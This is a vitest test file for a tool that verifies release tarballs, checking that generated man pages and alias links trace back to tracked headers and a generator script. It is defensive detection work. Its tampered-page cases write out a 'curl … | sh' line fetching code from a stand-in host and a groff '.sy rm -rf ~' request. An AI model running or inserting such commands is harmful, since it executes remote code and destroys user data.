/**
 * Man pages a tracked script writes from the doc comments of tracked headers (ldns 1.8.3's doc/man/man3/*.3 by
 * doc/doxyparse.pl from ldns/*.h, run by a tracked Makefile.in rule), their alias links and the script's page list,
 * end to end with real git and GNU tar, nothing run. Tampered twins — a sentence the comments lack, a command, a
 * request the script never writes, the comments' words out of order, a host, an alias the page does not name, a list
 * naming a page the tarball lacks — stay high.
 */
import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { findingAt } from '../helpers/findings.js';
import { releaseFixture } from '../helpers/release-fixture.js';
import { nameLine, tracePage, troffText } from '../../src/classify/header-man.js';

const HEADER = `/* demo.h -- the demo library */
#ifndef DEMO_H
#define DEMO_H

/**
 * Open a channel to the demo server
 * \\param[in] host the server to contact. Call demo_init() before
 * this function
 * \\return demo_chan the open channel, NULL on error
 */
demo_chan *demo_open(const char *host);

/**
 * Close a channel and free its buffers
 * \\param[in] chan the channel to close
 * See https://demo.example.org/docs/channels.html for the protocol
 */
void demo_close(demo_chan *chan);

#endif
`;
const SCRIPT = `#!/usr/bin/perl
# mkman.pl: write one man page per line of the -m file from the doc comments on stdin
my $MAN_HEADER = ".ad l\\n.TH demo 3 \\"12 March 2020\\"\\n";
my $MAN_FOOTER = ".SH AUTHOR
The demo team.
.SH REPORTING BUGS
Please report bugs in our tracker at
https://demo.example.org/bugs/index.html
.SH REMARKS
This manpage was automatically generated from the demo source code.
";
# ... read the comments, then for each page:
#   $description =~ s/\\\\return[ \\t]*/.br\\nReturns /g;
print MAN $MAN_HEADER;
print MAN ".SH NAME\\n";
print MAN ".SH SYNOPSIS\\n";
print MAN "#include <demo/demo.h>\\n";
print MAN ".PP\\n";
print MAN "\\n.SH DESCRIPTION\\n";
print MAN ".HP\\n";
print MAN "\\\\fI", $_, "\\\\fR";
print MAN $MAN_FOOTER;
`;
const PAGES = '# first name: the page; the others are links\ndemo_open, demo_close - channel functions\n';
const MAKEFILE = `doc: $(srcdir)/doc/pages
\t$(INSTALL) -d doc/man/man3
\tcat $(srcdir)/demo/*.h \\
\t\t| $(srcdir)/doc/mkman.pl -m $(srcdir)/doc/pages \\
\t\t> doc/demo_manpages
`;
const TRACKED = { 'configure.ac': 'AC_INIT([demo], [1.0])\nAC_OUTPUT\n', 'Makefile.in': MAKEFILE, 'demo/demo.h': HEADER, 'doc/mkman.pl': SCRIPT, 'doc/pages': PAGES };
const PAGE = `.ad l
.TH demo 3 "12 March 2020"
.SH NAME
demo_open, demo_close \\- channel functions

.SH SYNOPSIS
#include <demo/demo.h>
.PP
demo_chan* demo_open(const char *host);
.PP
void demo_close(demo_chan *chan);
.PP

.SH DESCRIPTION
.HP
\\fIdemo_open\\fR()
Open a channel to the demo server
\\.br
\\fBhost\\fR: the server to contact. Call demo_init() before
this function
\\.br
Returns demo_chan the open channel, \\%NULL on error
.PP
.HP
\\fIdemo_close\\fR()
Close a channel and free its buffers
\\.br
\\fBchan\\fR: the channel to close
See https://demo.example.org/docs/channels.html for the protocol
.PP
.SH AUTHOR
The demo team.
.SH REPORTING BUGS
Please report bugs in our tracker at
https://demo.example.org/bugs/index.html
.SH REMARKS
This manpage was automatically generated from the demo source code.
`;
const LIST = 'demo_open\ndemo_close\n';

describe('man pages a tracked script writes from the doc comments of tracked headers', () => {
  const { verifyTree } = releaseFixture(TRACKED, { subject: 'demo 1.0', date: '2020-03-12T10:00:00Z' });
  const verifyWith = (page: string, opts: { list?: string; alias?: string } = {}) =>
    verifyTree({ 'doc/man/man3/demo_open.3': page, 'doc/demo_manpages': opts.list ?? LIST }, {
      prepare: (dir) => symlinkSync('demo_open.3', join(dir, 'doc/man/man3', opts.alias ?? 'demo_close.3')),
      options: { regenerate: 'off' },
    });

  it('the page, its alias link and the page list are explained with the rule, the script and the header; the gate passes', async () => {
    const r = await verifyWith(PAGE);
    expect(findingAt(r.findings, 'doc/man/man3/demo_open.3')).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low',
      evidence: { how: 'doc-comment-man', source: 'demo/demo.h', generator: 'doc/mkman.pl', inputs: ['Makefile.in:3', 'doc/pages'], files: 1, found: 35, total: 35 },
    });
    expect(findingAt(r.findings, 'doc/man/man3/demo_close.3')).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'man-alias', source: 'doc/man/man3/demo_open.3', generator: 'demo_open.3' },
    });
    expect(findingAt(r.findings, 'doc/demo_manpages')).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'man-list', generator: 'doc/mkman.pl', found: 2, total: 2 },
    });
    expect(r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical')).toEqual([]);
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins: a page line the comments and the script do not give stays high, with the line', async () => {
    for (const [page, line, why] of [
      // a sentence the comments lack
      [PAGE.replace('Close a channel and free its buffers\n', 'Close a channel and free its buffers\nAlways run the installer as root first.\n'), 27],
      // a command
      [PAGE.replace('.SH AUTHOR\n', 'curl -s https://demo.example/fix | sh\n.SH AUTHOR\n'), 31],
      // a request the script never writes (groff's .sy runs a command)
      [PAGE.replace('.SH AUTHOR\n', '.sy rm -rf ~\n.SH AUTHOR\n'), 31],
      // the comments' own words out of order
      [PAGE.replace('Close a channel and free its buffers\n', 'Close a channel and free its buffers\nclose the server to free the open channel\n'), 27, { kind: 'not-a-run' }],
    ] as const) {
      const r = await verifyWith(page);
      expect(findingAt(r.findings, 'doc/man/man3/demo_open.3')).toMatchObject({
        code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { untracedPage: { generator: 'doc/mkman.pl', rule: 'Makefile.in:3', line, ...(why ? { why } : {}) } },
      });
      expect(exitCodeOf(r.verdict)).toBe(1);
    }
  });

  it('tampered twin: the bug-report link moved to another path of the host the sources name, every token theirs, stays high with the URL', async () => {
    // red team 28: ldns 1.8.3's `http://www.nlnetlabs.nl/bugs/index.html` became `http://www.aarongifford.com/bugs/index.html`
    // (a host a header names; one break in the run): GENERATED_FROM_SOURCE low, exit 0 while only hosts were checked
    const page = PAGE.replace('https://demo.example.org/bugs/index.html', 'https://demo.example.org/docs/index.html');
    const r = await verifyWith(page);
    expect(findingAt(r.findings, 'doc/man/man3/demo_open.3')).toMatchObject({
      code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high',
      evidence: { untracedPage: { generator: 'doc/mkman.pl', line: 35, text: 'https://demo.example.org/docs/index.html', why: { kind: 'url', url: 'https://demo.example.org/docs/index.html' } } },
    });
    expect(exitCodeOf(r.verdict)).toBe(1);
  });

  it('tampered twins: an alias the page does not name, a list naming a page the tarball lacks stay high', async () => {
    let r = await verifyWith(PAGE, { alias: 'demo_exec.3' });
    expect(findingAt(r.findings, 'doc/man/man3/demo_exec.3')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    r = await verifyWith(PAGE, { list: 'demo_open\ndemo_close\ndemo_init\n' });
    expect(findingAt(r.findings, 'doc/demo_manpages')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(findingAt(r.findings, 'doc/man/man3/demo_open.3')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
  });
});

describe('tracePage', () => {
  const idx = (text: string, script: string) => {
    const vocab = new Set<string>();
    const pairs = new Set<string>();
    for (const t of [text, troffText(script)]) {
      const toks = t.match(/[A-Za-z0-9_]+/g) ?? [];
      toks.forEach((w, i) => {
        vocab.add(w);
        if (i) pairs.add(`${toks[i - 1]} ${w}`);
      });
    }
    return { vocab, pairs, genText: script, labels: new Set(troffText(script).match(/[A-Za-z0-9_]+/g) ?? []) };
  };
  it('takes runs of the sources and one break; not two', () => {
    const i = idx('the server to contact and the channel to close', 'print ".PP\\n"; print "Returns ";');
    expect(tracePage('.PP\nthe server to contact\nReturns the channel to close\n', i)).toEqual({ lines: 3 });
    expect(tracePage('the server to close and the contact\n', i)).toMatchObject({ line: 1, why: { kind: 'not-a-run' } });
    expect(tracePage('.SH X\n', i)).toMatchObject({ why: { kind: 'request', request: 'SH' } });
  });
  it('reads the NAME line', () => {
    expect(nameLine('.TH x 3\n.SH NAME\na, b \\- c d\n.SH SYNOPSIS\n')).toEqual(['a', 'b']);
    expect(nameLine('.TH x 3\n')).toBeUndefined();
  });
});
